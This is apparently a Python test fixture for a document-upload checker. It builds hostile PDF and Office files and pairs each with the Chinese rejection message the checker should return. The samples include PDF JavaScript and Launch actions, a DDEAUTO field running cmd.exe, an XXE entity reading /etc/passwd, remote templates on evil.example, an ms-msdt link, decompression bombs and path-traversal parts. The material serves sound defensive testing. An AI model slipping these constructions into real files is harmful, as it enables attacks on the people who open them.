"""Files that must not be kept, each with the sentence that its sender reads."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

from documents import examining, office_upload, pdf_upload
from documents.container import DAMAGED, STRANGE
from tests.documents.files import offices
from tests.documents.files.pdfs import Pdf, first_extra, stream

N = first_extra(23)
RATIO = "文件的压缩比不正常，没有打开"
PATHS = "文件的部件路径不正常，没有打开"
NOT_OFFICE = "不是 docx 或 pptx 或 xlsx 文件"
ZIP_ONLY = "这是压缩包，不是 docx 或 pptx 或 xlsx"
MACROS = "文件带宏，请另存为不带宏的 docx 或 pptx 或 xlsx"


@dataclass(frozen=True)
class Hostile:
    """*name* as it is sent; *reason* is what comes back."""

    what: str
    name: str
    build: Callable[[], bytes]
    reason: str


def encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(Pdf().build())))
    writer.encrypt(user_password="geheim", owner_password="geheim", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(entries: bytes, *extra: bytes, packed: bool = False) -> Callable[[], bytes]:
    return lambda: Pdf(catalog=entries, extra=extra, packed=packed).build()


def annotation(entries: bytes, *extra: bytes) -> Callable[[], bytes]:
    return lambda: Pdf(page=b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % entries, extra=extra).build()


def bomb_docx() -> bytes:
    """10 kB that become 60 MB, its declared size a lie."""
    return offices.with_part(offices.docx(), "word/media/image1.bin", b"\0" * 60_000_000)


def lying_docx() -> bytes:
    data = bytearray(bomb_docx())
    where = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/media/image1.bin"))
    data[where + 24 : where + 28] = struct.pack("<I", 1000)
    return bytes(data)


def many_parts() -> bytes:
    return offices.docx(more={f"word/media/{n}.png": b"x" for n in range(2100)})


def bomb_pdf() -> bytes:
    """An object stream of 300 MB in 300 kB."""
    packed = zlib.compress(b" " * 300_000_000, 9)
    held = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    plain = Pdf(packed=True, extra=[b"<< >>"]).build()
    first = plain.index(b"<< /Type /ObjStm")
    end = plain.index(b"endstream", first) + 9
    grown = len(held) - (end - first)
    data = plain[:first] + held + plain[end:]
    start = int(plain[plain.rindex(b"startxref") + 9 :].split()[0])
    return data[: data.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % (start + grown)


def endless_pages() -> bytes:
    """A page tree that leads back to itself."""
    return Pdf().build().replace(b"/Kids [5 0 R 6 0 R", b"/Kids [2 0 R 6 0 R")


def symlink() -> bytes:
    out = io.BytesIO(offices.docx())
    with zipfile.ZipFile(out, "a") as held:
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        held.writestr(link, "/etc/passwd")
    return out.getvalue()


def twice_named() -> bytes:
    out = io.BytesIO(offices.docx())
    with zipfile.ZipFile(out, "a") as held:
        held.writestr("WORD/document.xml", "<x/>")
    return out.getvalue()


def locked_zip() -> bytes:
    data = bytearray(offices.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def embedded(program: str, part: str, data: bytes, kind: str = "oleObject") -> Callable[[], bytes]:
    body = f'<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="{program}" r:id="rId9"/></w:object></w:r></w:p>'
    return lambda: offices.docx(
        body, ("rId9", kind, f"embeddings/{part}", False), more={f"word/embeddings/{part}": data}
    )


def related(kind: str, target: str, *, is_external: bool = True) -> Callable[[], bytes]:
    return lambda: offices.docx("<w:p/>", ("rId9", kind, target, is_external))


def field(*pieces: str) -> Callable[[], bytes]:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return lambda: offices.docx(f"<w:p>{runs}</w:p>")


def entity() -> bytes:
    evil = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
    return offices.with_part(offices.docx(), "word/document.xml", evil.encode())


OLE = examining.OLD_OFFICE + b"\0" * 600
PACKAGE = OLE + "\x01Ole10Native".encode("utf-16-le")
EXPORT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ATTACHMENT = b"/EmbeddedFiles << /Names [(a.exe) %d 0 R] >>" % N

HOSTILE = (
    Hostile("PDF，加了打开密码", "a.pdf", encrypted, pdf_upload.ENCRYPTED),
    Hostile("PDF，只有前一半", "a.pdf", lambda: Pdf().build()[:2000], pdf_upload.DAMAGED),
    Hostile("PDF，缺最后 20 字节", "a.pdf", lambda: Pdf().build()[:-20], pdf_upload.DAMAGED),
    Hostile("PDF，目录指向别处", "a.pdf", lambda: Pdf().build().replace(b"startxref\n", b"startxref\n9"), pdf_upload.DAMAGED),
    Hostile("PDF，没有一页", "a.pdf", lambda: Pdf(0).build(), pdf_upload.DAMAGED),
    Hostile("PDF，页树绕圈", "a.pdf", endless_pages, pdf_upload.DAMAGED),
    Hostile("PDF，解开后 300 MB", "a.pdf", bomb_pdf, pdf_upload.TOO_MUCH),
    Hostile("PDF，一万页", "a.pdf", lambda: Pdf(10_000).build(), pdf_upload.TOO_MUCH),
    Hostile("PDF，打开时运行脚本", "a.pdf", action(b"/OpenAction %s" % EXPORT), pdf_upload.SCRIPT),
    Hostile("PDF，脚本藏在名字里", "a.pdf", action(b"/Names << /JavaScript << /Names [(x) %d 0 R] >> >>" % N, EXPORT), pdf_upload.SCRIPT),
    Hostile("PDF，脚本名用转义写", "a.pdf", action(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), pdf_upload.SCRIPT),
    Hostile("PDF，脚本在压缩的对象流里", "a.pdf", action(b"/AA << /WC %d 0 R >>" % N, EXPORT, packed=True), pdf_upload.SCRIPT),
    Hostile("PDF，翻页时运行脚本", "a.pdf", lambda: Pdf(page=b"/AA << /O %s >>" % EXPORT).build(), pdf_upload.SCRIPT),
    Hostile("PDF，按钮运行脚本", "a.pdf", annotation(b"/Subtype /Widget /A %s" % EXPORT), pdf_upload.SCRIPT),
    Hostile("PDF，XFA 表单", "a.pdf", action(b"/AcroForm << /XFA (x) >>"), pdf_upload.SCRIPT),
    Hostile("PDF，打开时启动程序", "a.pdf", action(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), pdf_upload.LAUNCHES),
    Hostile("PDF，链接启动程序", "a.pdf", annotation(b"/Subtype /Link /A << /S /Launch /F (a.exe) >>"), pdf_upload.LAUNCHES),
    Hostile("PDF，提交表单到网上", "a.pdf", annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (http://x) >>"), pdf_upload.LAUNCHES),
    Hostile("PDF，导入数据", "a.pdf", annotation(b"/Subtype /Widget /A << /S /ImportData /F (x) >>"), pdf_upload.LAUNCHES),
    Hostile("PDF，跳到夹带的文件", "a.pdf", annotation(b"/Subtype /Link /A << /S /GoToE >>"), pdf_upload.LAUNCHES),
    Hostile("PDF，夹带文件", "a.pdf", action(b"/Names << %s >>" % ATTACHMENT, b"<< /F (a.exe) /EF << /F %d 0 R >> >>" % (N + 1), stream(b"/Type /EmbeddedFile", b"MZ")), pdf_upload.ATTACHED),
    Hostile("PDF，附件批注", "a.pdf", annotation(b"/Subtype /FileAttachment"), pdf_upload.ATTACHED),
    Hostile("PDF，富媒体", "a.pdf", annotation(b"/Subtype /RichMedia"), pdf_upload.ATTACHED),
    Hostile("PDF，声音", "a.pdf", annotation(b"/Subtype /Sound"), pdf_upload.ATTACHED),
    Hostile("PDF 后面接压缩包", "a.pdf", lambda: Pdf().build() + offices.archive({"a.exe": b"MZ"}), pdf_upload.MIXED),
    Hostile("PDF 后面接小压缩包", "a.pdf", lambda: Pdf().build() + b"PK\x05\x06" + b"\0" * 18, pdf_upload.MIXED),
    Hostile("网页里包着 PDF", "a.pdf", lambda: b"<html><script>1</script>" + Pdf().build(), "这不是 PDF，请重新导出再交"),
    Hostile("空文件", "a.pdf", lambda: b"", examining.EMPTY),
    Hostile("程序改名 .pdf", "a.pdf", lambda: b"MZ" + b"\0" * 100, examining.UNKNOWN),
    Hostile("图片改名 .pdf", "a.pdf", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 100, examining.UNKNOWN),
    Hostile("Word 改名 .pdf", "a.pdf", offices.docx, "文件名说是PDF，内容却是Word 文件，请检查是不是选错了，或重新导出再交"),
    Hostile("PDF 改名 .docx", "a.docx", Pdf().build, "文件名说是Word 文件，内容却是PDF，请检查是不是选错了，或重新导出再交"),
    Hostile("两个扩展名", "报告.pdf.exe", Pdf().build, "文件名说是.exe 文件，内容却是PDF，请检查是不是选错了，或重新导出再交"),
    Hostile("旧版 .doc", "a.doc", lambda: OLE, examining.OLD),
    Hostile("Word，加了密码", "a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), examining.LOCKED),
    Hostile("Word，压缩包加密", "a.docx", locked_zip, "文件加了密码，请去掉密码后再试"),
    Hostile("Word，截断", "a.docx", lambda: offices.docx()[:-100], DAMAGED),
    Hostile("Word，正文坏了", "a.docx", lambda: offices.with_part(offices.docx(), "word/document.xml", b"<w:document"), DAMAGED),
    Hostile("Word，带宏", "a.docx", lambda: offices.docx(more={"word/vbaProject.bin": b"x"}), MACROS),
    Hostile("docm 改名 .docx", "a.docx", lambda: offices.docx(more={"[Content_Types].xml": offices.content_types("word/document.xml").replace("vnd.openxmlformats-officedocument.wordprocessingml.document", "vnd.ms-word.document.macroEnabled")}), office_upload.MACRO),
    Hostile("Word，宏换了文件名", "a.docx", related("vbaProject", "theme.bin", is_external=False), office_upload.MACRO),
    Hostile("Word，嵌程序包", "a.docx", embedded("Package", "oleObject1.bin", PACKAGE), office_upload.EMBEDDED),
    Hostile("Word，程序包冒充公式", "a.docx", embedded("Equation.DSMT4", "oleObject1.bin", PACKAGE), office_upload.EMBEDDED),
    Hostile("Word，嵌旧版表格", "a.docx", embedded("Excel.Sheet.8", "oleObject1.bin", OLE), office_upload.EMBEDDED),
    Hostile("Word，嵌带宏的表格", "a.docx", embedded("Excel.Sheet.12", "b.xlsx", offices.with_part(offices.workbook(), "xl/vbaProject.bin", b"x"), "package"), "文件带宏，请另存为不带宏的 xlsx"),
    Hostile("Word，没人引用的嵌入物", "a.docx", lambda: offices.docx(more={"word/embeddings/a.exe": b"MZ"}), office_upload.EMBEDDED),
    Hostile("Word，控件", "a.docx", lambda: offices.docx(more={"word/activeX/activeX1.xml": "<x/>"}), office_upload.CONTROL),
    Hostile("Word，外部实体", "a.docx", entity, STRANGE),
    Hostile("Word，网上的模板", "a.docx", related("attachedTemplate", "http://evil.example/a.dotm"), office_upload.REMOTE),
    Hostile("Word，共享盘的模板", "a.docx", related("attachedTemplate", "\\\\server\\a.dotm"), office_upload.REMOTE),
    Hostile("Word，网上的图片", "a.docx", related("image", "https://evil.example/track.png"), office_upload.REMOTE),
    Hostile("Word，共享盘的图片", "a.docx", related("image", "file://server/a.png"), office_upload.REMOTE),
    Hostile("Word，网上的对象", "a.docx", related("oleObject", "http://evil.example/a.rtf"), office_upload.REMOTE),
    Hostile("Word，特殊协议的链接", "a.docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic"), office_upload.REMOTE),
    Hostile("Word，嵌整篇文档", "a.docx", related("aFChunk", "afchunk.mht", is_external=False), office_upload.EMBEDDED),
    Hostile("Word，DDE 域", "a.docx", field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), office_upload.DDE),
    Hostile("Word，DDE 域分成几段", "a.docx", field("DD", "EAU", "TO cmd"), office_upload.DDE),
    Hostile("Word，压缩炸弹", "a.docx", bomb_docx, RATIO),
    Hostile("Word，炸弹谎报大小", "a.docx", lying_docx, DAMAGED),
    Hostile("Word，两千多个部件", "a.docx", many_parts, "文件里的部件超过2000个，没有打开"),
    Hostile("Word，路径往外跳", "a.docx", lambda: offices.docx(more={"../../evil.sh": b"x"}), PATHS),
    Hostile("Word，绝对路径", "a.docx", lambda: offices.docx(more={"/etc/cron.d/x": b"x"}), PATHS),
    Hostile("Word，盘符路径", "a.docx", lambda: offices.docx(more={"C:\\evil.bat": b"x"}), PATHS),
    Hostile("Word，符号链接", "a.docx", symlink, PATHS),
    Hostile("Word，同名部件", "a.docx", twice_named, "文件里有同名部件，没有打开"),
    Hostile("压缩包改名 .docx", "a.docx", lambda: offices.archive({"a.txt": b"x"}), ZIP_ONLY),
    Hostile("什么都不是的容器", "a.docx", lambda: offices.archive({"[Content_Types].xml": "<Types/>"}), NOT_OFFICE),
    Hostile("PPT，带宏", "a.pptx", lambda: offices.pptx(3, more={"ppt/vbaProject.bin": b"x"}), MACROS),
    Hostile("PPT，网上的视频", "a.pptx", lambda: offices.pptx(3, 0, ("rId1", "video", "https://evil.example/a.mp4", True)), office_upload.REMOTE),
    Hostile("PPT，少一张幻灯片", "a.pptx", lambda: offices.pptx(3, more={"ppt/_rels/presentation.xml.rels": offices.relations()}), DAMAGED),
    Hostile("网页", "a.html", lambda: b"<html></html>", examining.UNKNOWN),
)  # fmt: skip
